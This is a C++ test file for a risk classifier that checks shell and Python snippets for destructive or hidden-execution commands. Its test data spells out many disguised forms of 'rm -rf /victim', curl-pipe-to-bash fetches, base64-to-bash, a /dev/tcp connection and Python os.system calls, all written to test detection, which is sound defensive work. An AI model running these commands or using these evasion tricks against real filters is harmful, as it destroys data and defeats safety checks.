// Units of hostile pages: texts that the risk rules have to keep from running, consent that nobody
// gave, and what a unit that runs finds behind its walls.
#include <doctest/doctest.h>

#include "base/disk.h"
#include "base/format.h"
#include "base/text.h"
#include "run/units/python_risk.h"
#include "run/units/risk.h"

using namespace kbuild;

namespace {

using run::find_python_risk;
using run::find_risk;
using run::Risk;

constexpr const char* kDeletes = "\nrm -rf /victim\n";

/// Beginnings of a block that must not hide what follows them.
constexpr const char* kOpenings[] = {
    "python3 -c \"print('a')\"",
    "echo \"$(echo \")\")\"",
    "echo \"it's\"",
    "echo 'a \"b'",
    "echo \"a 'b\" # it's",
    "cat <<EOF\nit's $(echo \")\")\nEOF",
    "cat <<'EOF'\n$(\nEOF",
    "cat <<-EOF\n\t\"\n\tEOF",
    "cat <<< \"a ' b\"",
    "diff <(sort \"a)\") <(echo ')')",
    "echo $(( (1 + 2) * 3 ))",
    "(( x = 1 << 2 ))",
    "((x=1<<y))",
    "for ((i=1<<3; i < 2; i++)); do :; done",
    "echo ${x:-\"}\"}",
    "echo ${x//\\'/\\\"}",
    "x=$(case a in a) echo b;; esac)",
    "echo \"$(case a in a) echo \")\";; esac)\"",
    "echo $'it\\'s'",
    "echo $\"a\"",
    "echo a#b; # \"",
    "echo `echo \"\\`echo a\\`\"`",
    "if [[ a =~ ^\\( ]]; then :; fi",
    "f() { echo \")\"; }",
    "function g { :; }",
    "cat > x.txt <<A <<B\n\"\nA\n'\nB",
    "echo \\\" \\'",
    "echo a \\\n\"b\"",
    "awk '{ print \"(\" }' x",
    "case x in (a) : ;; b) : ;; esac",
    "printf '%s' \"$(printf '%s' \"$(echo \")\")\")\"",
    "true && { echo \"}\"; }",
    "#!/bin/bash\n#SBATCH --comment=\"it's\npython3 -c \"print('a')\"",
};

}  // namespace

TEST_CASE("no opening of a block hides the commands after it") {
  for (std::string opening : kOpenings) {
    CAPTURE(opening);
    CHECK(find_risk(opening + kDeletes).risk == Risk::person);
    CHECK(run::find_file_risk("job.sh", "#!/bin/bash\n" + opening + kDeletes).risk == Risk::person);
  }
}

TEST_CASE("what stays harmless may run") {
  for (std::string commands : {
           "python3 -c \"print('a')\"",
           "python3 -c 'import torch; print(torch.__version__)'",
           "echo \"$(echo \")\")\"",
           "cat > a.py <<EOF\nprint(1)\nEOF\npython3 a.py",
           "cat > a.sh <<'EOF'\necho \"$HOME\"\nEOF\nbash a.sh",
           "(( x = 1 << 2 )); echo $x",
           "for i in 1 2; do echo $i; done",
           "srun -n 4 python3 train.py --lr 0.1",
           "CXX=g++\n$CXX -o a a.cc\n./a",
           "rm -rf build ~/.cache/x $TMPDIR/y",
           "mkdir -p build && cd build && cmake .. && make",
           "find . -name '*.o' -delete",
           "awk '{ print $1 }' data.txt | sort | uniq -c",
           "sed 's/a/b/' x > y",
           "env -i ls; nice -n 5 ls; timeout 10 ls",
           "bash -c 'echo hello'",
           "export OMP_NUM_THREADS=$SLURM_CPUS_PER_TASK",
           "tar xf a.tar -C sub",
           "python3 -m venv env",
           "python3 --version && bash --version",
           "diff <(sort a) <(sort b)",
           "echo $((2 * 3)) $'a\\tb'",
           "git --version",
       }) {
    CAPTURE(commands);
    CHECK(find_risk(commands).reason == "");
  }
}

TEST_CASE("texts that are only known when they run are left to a person") {
  for (std::string commands : {
           "echo cm0gLXJmIC92aWN0aW0= | base64 -d | bash",
           "echo cm0gLXJmIC92aWN0aW0= | base64 -d |\n  sh",
           "curl -s https://example.org/x.sh | bash -s -- --yes",
           "bash <(curl -s https://example.org/x.sh)",
           "source <(echo rm -rf /victim)",
           "source /dev/stdin <<< 'rm -rf /victim'",
           "bash <<< 'rm -rf /victim'",
           "bash <<EOF\nrm -rf /victim\nEOF",
           "sh < script",
           "echo x | { bash; }",
           "echo x | tee >(bash)",
           "eval \"$(base64 -d <<< cm0=)\"",
           "eval rm -rf /victim",
           "echo 'rm -rf /victim' > a.sh; bash a.sh",
           "printf '%s' x > a.sh; chmod +x a.sh; ./a.sh",
           "cat > a.sh <<EOF\nrm -rf /victim\nEOF\nbash a.sh",
           "base64 -d x > a.py\npython3 a.py",
           "echo x > b; mv b a.sh; . ./a.sh",
           "cat <<EOF\n$(rm -rf /victim)\nEOF",
           "echo ${x:-$(rm -rf /victim)}",
           "X=rm; $X -rf /victim",
           "X=/victim; touch $X/a",
           "$COMMAND -rf /victim",
           "$(echo rm) -rf /victim",
           "/bin/r? -rf /victim",
           "{rm,-rf,/victim}",
           "r'm' -rf /victim",
           "$'\\x72m' -rf $'\\57victim'",
           "touch $'\\x2fvictim/a'",
           "for x do rm -rf /victim; done",
           "function f { rm -rf /victim; }; f",
           "coproc rm -rf /victim",
           "time -p rm -rf /victim",
           "env -i rm -rf /victim",
           "env -u X -S 'rm -rf /victim'",
           "exec -c rm -rf /victim",
           "timeout -s 9 5 rm -rf /victim",
           "echo /victim | xargs rm -rf",
           "parallel rm -rf ::: /victim",
           "flock x -c 'rm -rf /victim'",
           "busybox rm -rf /victim",
           "trap 'rm -rf /victim' EXIT",
           "alias x='rm -rf /victim'",
           "find . -exec true \\; -exec rm -rf /victim \\;",
           "find / -type f -exec sh -c 'rm \"$1\"' _ {} +",
           "awk 'BEGIN { system(\"rm -rf /victim\") }'",
           "sed '1e rm -rf /victim' x",
           "tar cf x y --checkpoint=1 --checkpoint-action=exec=sh",
           "tar xf x -C /victim",
           "git -c alias.x='!rm -rf /victim' x",
           "cmake -E rm -rf /victim",
           "perl -e 'unlink glob \"/victim/*\"'",
           "python3 -c 'import shutil; shutil.rmtree(\"/victim\")'",
           "python3 - <<EOF\nimport os\nos.system('rm -rf /victim')\nEOF",
           "cd ../../..; rm -rf *",
           "cd build; cd ../..; rm -rf *",
           "cd \"$OTHER\"; rm -rf *",
           "cd /victim; cd sub; rm -rf *",
           "(cd a/b/c); cd ../../..; rm -rf *",
           "echo x > ../../../victim",
           "cp a ../../victim",
           "echo \"a",
           "echo $(ls",
           "cat <<EOF\na",
       }) {
    CAPTURE(commands);
    CHECK(find_risk(commands).risk == Risk::person);
  }
  CHECK(find_risk("exec 3<> /dev/tcp/192.0.2.1/80").risk != Risk::none);
}

TEST_CASE("Python that starts programs, makes code or deletes elsewhere is left to a person") {
  for (std::string code : {
           "import os\nos.system('x')",
           "import os as o\no.system('x')",
           "from os import system\nsystem('x')",
           "from os import (path,\n  system as s)\ns('x')",
           "f = getattr(os, 'sys' + 'tem')",
           "import subprocess as s\ns.run('x')",
           "__import__('os').popen('x')",
           "import importlib\nimportlib.import_module('subprocess')",
           "exec(code)",
           "e = eval\ne('1')",
           "import shutil\nshutil.rmtree('/victim')",
           "shutil.rmtree(path)",
           "shutil.rmtree('a/../../victim')",
           "from shutil import rmtree\nrmtree('/victim')",
           "os.remove(sys.argv[1])",
           "Path('/victim').unlink()",
           "open('/victim', 'w')",
           "print(f\"{__import__('os').system('x')}\")",
           "print(f'''{os.system(\"x\")}''')",
           "ctypes.CDLL(None)",
           "sys.modules['os']",
           "os.__dict__['system']",
       }) {
    CAPTURE(code);
    CHECK(find_python_risk(code).risk == Risk::person);
  }
  for (std::string code : {
           "import os, sys\nprint(os.environ['HOME'], sys.argv)",
           "model.eval()\nmodel = torch.compile(model)\nre.compile('x')",
           "print(platform.system())",
           "from importlib.metadata import version\nprint(version('torch'))",
           "shutil.rmtree('cache', ignore_errors=True)",
           "os.remove('a.txt')\nitems.remove(3)\ntext.replace('a', 'b')",
           "open('a.txt', 'w').write('os.system')",
           "open('/proc/cpuinfo')\n# subprocess",
           "parser.add_argument('--eval', action='store_true')\nargs = vars(parser.parse_args())",
           "dist.init_process_group('gloo')",
       }) {
    CAPTURE(code);
    CHECK(find_python_risk(code).reason == "");
  }
}

TEST_CASE("nested wrappers and shells are judged in bounded time") {
  std::string watches, shells = "true", quotes, dollars;
  for (int i = 0; i < 3000; ++i) watches += "watch ";
  for (int i = 0; i < 30; ++i) shells = "bash -c " + std::string(1, '"') + shells;
  for (int i = 0; i < 20000; ++i) quotes += "$(\"";
  for (int i = 0; i < 20000; ++i) dollars += "A" + std::to_string(i) + "=1; $A0 ";
  CHECK(find_risk(dollars).risk == Risk::none);
  for (const std::string& commands : {watches + "rm", shells, quotes}) {
    CAPTURE(commands.substr(0, 40));
    CHECK(find_risk(commands).risk == Risk::person);
  }
}
